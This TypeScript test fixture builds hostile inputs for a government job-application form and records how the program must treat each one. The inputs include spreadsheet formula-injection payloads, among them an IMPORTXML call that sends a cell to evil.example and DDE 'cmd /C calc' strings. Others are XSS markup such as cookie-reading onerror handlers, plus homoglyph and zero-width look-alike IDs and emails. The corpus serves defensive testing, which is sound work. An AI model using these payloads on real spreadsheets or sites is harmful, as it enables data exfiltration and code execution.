// The hostile-input corpus: formula payloads, markup, look-alikes, invisible characters, over-long, blank, bad digits,
// impossible dates, foreign domains and academic titles, each with the outcome the program owes the applicant.
import { FILES_DELIVERY_CHOICES } from '../../src/core/intake-form';

/** What the program must do with a submission. */
export type Expected =
  /** Recorded as "Data tidak valid", the applicant told what to fix (by mail when the address can take one). */
  | 'invalid'
  /** Taken in (valid): the hostile text is kept as inert text. */
  | 'accepted'
  /** Either of the above is right (free text where the value is odd but may be legitimate); the text stays inert. */
  | 'inert'
  /** Nothing recorded, nothing mailed (an empty or blank delivery). */
  | 'ignored';

export interface HostileCase {
  name: string;
  /** Overrides by question key (see test/e2e/harness answers()). */
  overrides: Record<string, string | string[]>;
  expected: Expected;
  /** The field the refusal must name (register "Masalah data (JSON)"), when one is expected. */
  field?: string;
}

const FORMULAS = [
  '=IMPORTXML("https://evil.example/?q="&A1,"//a")',
  '=HYPERLINK("https://evil.example/","Klik di sini")',
  '=IMAGE("https://evil.example/track.png")',
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  ' =IMPORTRANGE("1abc","A1:Z")',
  "'=1+1",
];

const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg onload=alert(1)>',
  '<a href="javascript:alert(1)">klik</a>',
  '</td></tr><tr><td>palsu',
  '<iframe src="https://evil.example"></iframe>',
];

const FREE_TEXT_FIELDS = ['position', 'unit'];
const STRICT_FIELDS = ['name', 'nik', 'nip', 'email', 'phone'];

/** The NIKs the corpus uses for cases that are otherwise valid: distinct, so no "one active application" clash. */
function nikFor(index: number): string {
  // 7101 + ddmmyy (15-08-85) + 4-digit serial: a valid NIK shape per case.
  return `710120150885${String(1000 + index).padStart(4, '0')}`;
}

/** Builds the corpus; every case gets its own valid NIK unless it attacks the NIK. */
export function buildCorpus(): HostileCase[] {
  const cases: HostileCase[] = [];
  const add = (c: HostileCase) => cases.push(c);

  for (const payload of FORMULAS) {
    for (const field of STRICT_FIELDS)
      add({ name: `formula in ${field}: ${payload}`, overrides: { [field]: payload }, expected: 'invalid', field });
    for (const field of FREE_TEXT_FIELDS)
      add({ name: `formula in ${field}: ${payload}`, overrides: { [field]: payload }, expected: 'inert' });
    add({
      name: `formula in filesLink: ${payload}`,
      overrides: { filesLink: payload, filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE },
      expected: 'inert',
    });
  }
  for (const payload of MARKUP) {
    for (const field of ['name', 'nik', 'nip', 'email', 'phone'])
      add({ name: `markup in ${field}: ${payload}`, overrides: { [field]: payload }, expected: 'invalid', field });
    for (const field of FREE_TEXT_FIELDS)
      add({ name: `markup in ${field}: ${payload}`, overrides: { [field]: payload }, expected: 'inert' });
    add({
      name: `markup in filesLink: ${payload}`,
      overrides: {
        filesLink: `https://drive.google.com/${payload}`,
        filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE,
      },
      expected: 'inert',
    });
    add({
      name: `markup with a valid name: Budi ${payload}`,
      overrides: { name: `Budi ${payload}` },
      expected: 'invalid',
      field: 'name',
    });
  }

  const lookAlikeEmails = [
    'budi@bolmongkab.go.\u0456d', // Cyrillic i
    'budi@bolmongkab.g\u043e.id', // Cyrillic o
    'budi\u200b@bolmongkab.go.id',
    'bu\u200bdi@bolmongkab.go.id',
    'budi@bolmongkab.go.id\u202e',
    '\ufeffbudi@bolmongkab.go.id',
    'budi\uff20bolmongkab.go.id', // fullwidth @
    'budi@bolmongkab\u3002go\u3002id', // ideographic full stops
    'budi@bolmongkab.go.id\u200d',
    'b\u00fcdi@bolmongkab.go.id',
  ];
  for (const email of lookAlikeEmails)
    add({
      name: `look-alike e-mail ${JSON.stringify(email)}`,
      overrides: { email },
      expected: 'invalid',
      field: 'email',
    });

  const lookAlikeNiks = [
    '\uff17\uff11\uff10\uff11\uff12\uff10\uff11\uff15\uff10\uff18\uff18\uff15\uff10\uff10\uff10\uff11', // fullwidth
    '\u0667\u0661\u0660\u0661\u0662\u0660\u0661\u0665\u0660\u0668\u0668\u0665\u0660\u0660\u0660\u0661', // Arabic-Indic
    '\u200b7101201508850001',
    '7101201508850001\u200c',
    '71012015O8850001', // letter O
    '7101201508850OO1',
    '7l01201508850001', // letter l
  ];
  // A zero-width character inside an otherwise new NIK is removed: the NIK is the same person's, taken once...
  add({
    name: 'zero-width inside a new NIK is removed',
    overrides: { nik: '7101\u200b201508850001' },
    expected: 'accepted',
  });
  // ...so every look-alike of it after that is refused (invisible characters and other digit forms do not slip past
  // the one-active-application rule or the 16-digit rule).
  for (const nik of lookAlikeNiks)
    add({ name: `look-alike NIK ${JSON.stringify(nik)}`, overrides: { nik }, expected: 'invalid', field: 'nik' });

  const long = (n: number) => 'A'.repeat(n);
  for (const field of ['name', 'position', 'unit', 'nik', 'nip', 'email', 'phone']) {
    add({ name: `over-long ${field} (50,001)`, overrides: { [field]: long(50_001) }, expected: 'invalid', field });
    add({
      name: `over-long ${field} (120,000)`,
      overrides: { [field]: `=${long(120_000)}` },
      expected: 'invalid',
      field,
    });
  }
  add({
    name: 'over-long filesLink',
    overrides: {
      filesLink: `https://drive.google.com/${long(60_000)}`,
      filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE,
    },
    expected: 'invalid',
    field: 'filesLink',
  });

  for (const [nik, why] of [
    ['710120150885000', '15 digits'],
    ['71012015088500011', '17 digits'],
    ['', 'empty'],
    ['0000000000000000', 'all zeros'],
    ['7101203208850001', 'day 32'],
    ['7101201513850001', 'month 13'],
    ['7101203002850001', '30 February'],
    ['7101203111850001', '31 November'],
    ['7101207208850001', 'female day 72'],
    ['7101200008850001', 'day 00'],
    ['7101201500850001', 'month 00'],
    ['9901201508850001', 'no such province 99'],
  ] as const) {
    add({ name: `NIK ${why}`, overrides: { nik }, expected: 'invalid', field: 'nik' });
  }
  for (const [nip, why] of [
    ['19850815201001100', '17 digits'],
    ['1985081520100110011', '19 digits'],
    ['198513152010011001', 'birth month 13'],
    ['198502302010011001', 'birth 30 February'],
    ['198508152010131001', 'TMT month 13'],
    ['198508152010013001', 'sex digit 3'],
    ['000000000000000000', 'all zeros'],
    ['19850815201001100A', 'letter'],
  ] as const) {
    add({ name: `NIP ${why}`, overrides: { nip }, expected: 'invalid', field: 'nip' });
  }
  for (const email of [
    'budi@gmail.com',
    'budi@bolmongkab.go.id.evil.com',
    'budi@go.id.evil.com',
    'budi@bolmongkab.co.id',
    'budi@evil-go.id',
    'budi@bolmongkab.go.id@evil.com',
    'budi@',
    '@bolmongkab.go.id',
    'budi bolmongkab.go.id',
    'budi@bolmongkab.go.id, kepala.dinas@bolmongkab.go.id',
  ]) {
    add({ name: `not an allowed .go.id address: ${email}`, overrides: { email }, expected: 'invalid', field: 'email' });
  }
  for (const name of [
    'Dr. Budi Santoso',
    'Budi Santoso, S.Kom.',
    'Ir. Budi Santoso, M.T.',
    'Prof. Dr. Budi Santoso',
    'Budi Santoso S.E',
    'dr. Budi Santoso, Sp.PD',
    'Drs. Budi Santoso, M.Si.',
    'Budi Santoso, S.H., M.H.',
  ]) {
    add({ name: `title in name: ${name}`, overrides: { name }, expected: 'invalid', field: 'name' });
  }
  for (const phone of ['12345', '+1 202 555 0100', '08123', '0812345678901234567890', 'nomor saya 0812']) {
    add({ name: `phone ${phone}`, overrides: { phone }, expected: 'invalid', field: 'phone' });
  }
  // Blank deliveries: every answer empty, or whitespace only.
  add({ name: 'all answers empty', overrides: { __blank: 'empty' }, expected: 'ignored' });
  add({ name: 'all answers whitespace', overrides: { __blank: 'space' }, expected: 'ignored' });
  add({ name: 'all answers tabs and newlines', overrides: { __blank: 'tabs' }, expected: 'ignored' });

  return cases.map((c, index) =>
    c.field === 'nik' || 'nik' in c.overrides || '__blank' in c.overrides
      ? c
      : { ...c, overrides: { nik: nikFor(index), ...c.overrides } },
  );
}
